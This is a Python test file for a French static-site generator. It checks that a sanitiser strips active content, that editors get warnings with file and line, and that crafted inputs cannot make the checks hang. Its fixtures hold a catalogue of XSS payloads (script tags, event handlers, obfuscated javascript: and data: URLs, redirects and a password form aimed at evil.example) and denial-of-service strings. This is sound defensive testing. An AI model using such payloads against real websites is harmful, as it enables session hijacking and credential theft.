"""Active content never reaches the site: one sanitising step, escaped fields, warnings to editors."""

from __future__ import annotations

import json
import re
from types import SimpleNamespace

import pytest

from conftest import active_content, build_site, no_hang, run, serve, site_text, write

from irev import mentions, privacy, sanitize

MARK = "irevPwned"
HOSTILE_TITLE = f"Outil</title><script>window.{MARK}=1</script>"
HOSTILE_BODY = f"""\
Corps <script>window.{MARK}=2</script> avec du **gras**.

[un lien](https://www.ecologie.gouv.fr/politique-de-la-ville){{: onclick="window.{MARK}=3" }}
et [un piège](javascript:window.{MARK}=4) et <a href=" JaVaScRiPt:window.{MARK}=5">un autre</a>.

<iframe src="https://evil.example/"></iframe>
<img src="x" onerror="window.{MARK}=6">
<svg onload="window.{MARK}=7"><circle r="1"/></svg>
<object data="data:text/html,<script>window.{MARK}=8</script>"></object>
<form action="https://evil.example/"><input name="mot-de-passe"></form>
<style>body {{ display: none }}</style>
<a href="data:text/html,x">donnée</a> <base href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=https://evil.example/">
![pisteur](https://tracker.example/pixel.png)

[ref]: javascript:window.{MARK}=9

<details open ontoggle="window.{MARK}=10">x</details>

[relatif](page/javascript:window.{MARK}=15) et [index](x/../javascript:window.{MARK}=16)
![barre](/\\evil.example/a.png) <img src="/&#9;/evil.example/c.png">
Un \\` <span data-pagefind-filter="theme">Thème forgé</span> \\` et <div hidden>caché</div>
"""


def hostile_tree(tree):
    write(tree / "fiches" / "2023-outil-hostile.md", f"""---
titre: "{HOSTILE_TITLE}"
statut: publie
type: guide
date: 2023
resume: "Résumé <img src=x onerror=window.{MARK}=11> [clic](javascript:window.{MARK}=12)"
themes: [discriminations]
auteurs:
  - organisation: irev
    fonction: "<b onmouseover=window.{MARK}=13>Chargée</b>"
---
{HOSTILE_BODY}""")
    themes = tree / "registre" / "themes.yml"
    themes.write_text(themes.read_text().replace(
        "libelle: Discriminations\n", f'libelle: "Discriminations<script>window.{MARK}=14</script>"\n', 1))
    return tree


def test_markdown_editors_need_survives_and_active_content_does_not():
    kept = sanitize.clean(
        '<h2 id="x">T</h2><table><tr><td align="right">1</td></tr></table><abbr title="t">A</abbr>'
        '<sup id="fnref:1"><a class="footnote-ref" href="#fn:1">1</a></sup><dl><dt>a</dt><dd>b</dd></dl>'
        '<div class="admonition warning"><p class="admonition-title">!</p></div><a href="mailto:a@b.fr">m</a>'
        '<a href="tel:+33300000000">t</a><a href="../../fiches/x/">f</a><img src="../../pieces-jointes/a.png" alt="a">')
    for part in ('id="x"', 'align="right"', '<abbr title="t">', 'class="footnote-ref"', "<dl><dt>",
                 'class="admonition warning"', 'href="mailto:', 'href="tel:', 'href="../../fiches/x/"',
                 'src="../../pieces-jointes/a.png"'):
        assert part in kept
    removed = sanitize.clean('<script>x</script><a href="javascript:x" onclick="x" style="x">a</a>'
                             '<iframe></iframe><img src="https://tracker.example/p.png"><p id="__drawer">p</p>')
    assert removed == "<a>a</a><img><p>p</p>"


def test_check_reports_what_would_be_removed_with_file_and_line(tree):
    hostile_tree(tree)
    write(tree / "meetings" / "2022-05-01-attributs.md", "---\ntitre: R\nstatut: publie\ntype: webinaire\n"
          "date: 2022-05-01\nformat: visio\norganisateur: irev\n---\n<span data-pagefind-filter=\"theme\">x</span>\n")
    result = run(["irev", "check"], tree)
    out = result.stdout
    file = "content/fiches/2023-outil-hostile.md"
    lines = (tree / "fiches" / "2023-outil-hostile.md").read_text().splitlines()

    def line_of(text):
        return next(number for number, line in enumerate(lines, 1) if text in line)

    image_line = line_of('onerror="')
    expected = [
        f"{file}:2: titre: « <script> » retiré : ce champ est du texte, sans HTML",
        f"{file}:6: resume: adresse « javascript:window.{MARK}=12 » retirée",
        f"{file}:{line_of('Corps')}: texte: balise <script> retirée (non autorisée)",
        f"{file}:{line_of('onclick')}: texte: attribut « onclick » retiré (non autorisé)",
        f"{file}:{line_of('un piège')}: texte: adresse « javascript:window.{MARK}=4 » retirée",
        f"{file}:{line_of('<iframe')}: texte: balise <iframe> retirée",
        f"{file}:{image_line}: texte: attribut « onerror » retiré",
        f"{file}:{line_of('pisteur')}: texte: adresse « https://tracker.example/pixel.png » retirée",
        f"{file}:{line_of('[ref]:')}: texte: adresse « javascript:window.{MARK}=9 » retirée",
        "content/registre/themes.yml:2: libelle: « <script> » retiré",
    ]
    for message in expected:
        assert f"ATTENTION {message}" in out
    assert "ATTENTION content/meetings/2022-05-01-attributs.md:9: texte: attribut « data-pagefind-filter » retiré" in out
    for url in (f"page/javascript:window.{MARK}=15", "/\\evil.example/a.png"):
        assert f"texte: adresse « {url} » retirée" in out
    assert result.returncode == 0  # warnings: what would be removed does not stop the build


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory):
    import shutil
    from conftest import MINIMAL
    root = tmp_path_factory.mktemp("hostile")
    tree = hostile_tree(shutil.copytree(MINIMAL, root / "content"))
    site = root / "site"
    result = build_site(tree, site)
    assert result.returncode == 0, result.stderr
    return site


def test_no_active_content_in_any_output(hostile_site):
    assert active_content(hostile_site) == {}
    texts = site_text(hostile_site)
    assert any("pagefind_dcd" in text for text in texts.values())  # the search index is read too
    for name, text in texts.items():
        if name.endswith((".js", ".map", ".css")) or ".wasm" in name:
            continue  # the theme's and Pagefind's own code
        assert f"<script>window.{MARK}" not in text, name  # anywhere: pages, index fragments, sitemap
        assert not re.search(r'(href|src)="[\s\x00-\x1f]*javascript:', text, re.IGNORECASE), name
        if not name.startswith("donnees/"):  # the open data keep a body's Markdown as written: inert text, never loaded
            assert "tracker.example" not in text and "evil.example" not in text, name
        if "/fragment/" in name:  # a search index fragment: its facets are the templates' only
            facets = json.loads(text.removeprefix("pagefind_dcd"))["filters"]
            assert all("Thème forgé" not in values for values in facets.values()), name


def test_fields_are_plain_text_everywhere(hostile_site):
    html = (hostile_site / "fiches" / "2023-outil-hostile" / "index.html").read_text()
    assert "<title>Outil - Ressources IREV</title>" in html  # the script, content and all, removed
    assert '<h1 id="outil">Outil<a' in html


@pytest.fixture
def site_url(hostile_site):
    with serve(hostile_site) as url:
        yield url


def test_nothing_runs_in_a_browser(page, site_url):
    dialogs = []
    page.on("dialog", lambda dialog: dialogs.append(dialog.message) or dialog.dismiss())
    for path in ("fiches/2023-outil-hostile/", "fiches/", "", "thematiques/discriminations/",
                 f"ressources/?q=outil"):
        page.goto(f"{site_url}/{path}")
        page.wait_for_load_state("networkidle")
        for link in page.locator("article a").all()[:40]:
            link.hover()  # mouseover handlers, had any survived
        assert page.evaluate(f"window.{MARK}") is None, path
    assert dialogs == []


PATHOLOGICAL = {
    "attribute list": "{a=b" + " " * 200_000 + "x",
    "unclosed fences": "```a\n" * 40_000,
    "brackets": "[" * 200_000 + "](x",
    "braces": "{" * 200_000,
    "tag without end": "<a" + " b" * 100_000,
    "backticks": "`a" * 100_000,
    "links": "](" * 100_000,
    "mentions": "[[personne:" * 20_000,
}


@pytest.mark.parametrize("text", PATHOLOGICAL.values(), ids=PATHOLOGICAL.keys())
def test_no_text_makes_the_checks_hang(text):
    """Each pattern stays linear in the text's length: quadratic on these 200 KB would take hours.
    (A guard against a hang, not a measure: performance is measured by `make bench`.)"""
    redactor = privacy.Redactor([SimpleNamespace(id="paul-secret", nom="SECRET", prenom="Paul", autres_graphies=[],
                                                 consentement_publication=False)])
    with no_hang():
        sanitize.findings(text)
        sanitize.findings(text, markup=False)
        sanitize.text(text)
        list(mentions.find(text))
        redactor(text + " Paul SECRET")


NESTED = {
    "HTML": ('<div markdown="1">\n\n' * 120 + "x\n\n" + "</div>\n\n" * 120, "texte: plus de 100 éléments HTML imbriqués"),
    "lists": ("\n".join("   " * level + "1. x" for level in range(120)), "texte: indentation de plus de 300 colonnes"),
    "emphasis": ("*" * 60_000, "texte: suite de plus de 200 « * »"),
}


@pytest.mark.parametrize("body, message", NESTED.values(), ids=NESTED.keys())
def test_nesting_the_converter_cannot_follow_is_refused_by_check_and_build(tree, tmp_path, body, message):
    write(tree / "fiches" / "2023-imbrique.md", f"---\ntitre: T\nstatut: publie\ntype: guide\ndate: 2023\n---\n{body}\n")
    checked, built = run(["irev", "check"], tree), build_site(tree, tmp_path / "site")
    for output in (checked.stdout, built.stderr):
        assert "content/fiches/2023-imbrique.md:" in output and message in output
        assert "Traceback" not in output
    assert checked.returncode == 1 and built.returncode != 0


def test_a_page_the_converter_cannot_follow_is_a_french_error_not_a_traceback():
    from irev import rendering
    deep = '<div markdown="1">\n\n' * 600 + "x\n\n" + "</div>\n\n" * 600
    with pytest.raises(rendering.ConversionError, match="la page fiches/x.md n'a pas pu être convertie"):
        rendering.convert_batch([("fiches/x.md", deep.encode())], ["md_in_html"], {})
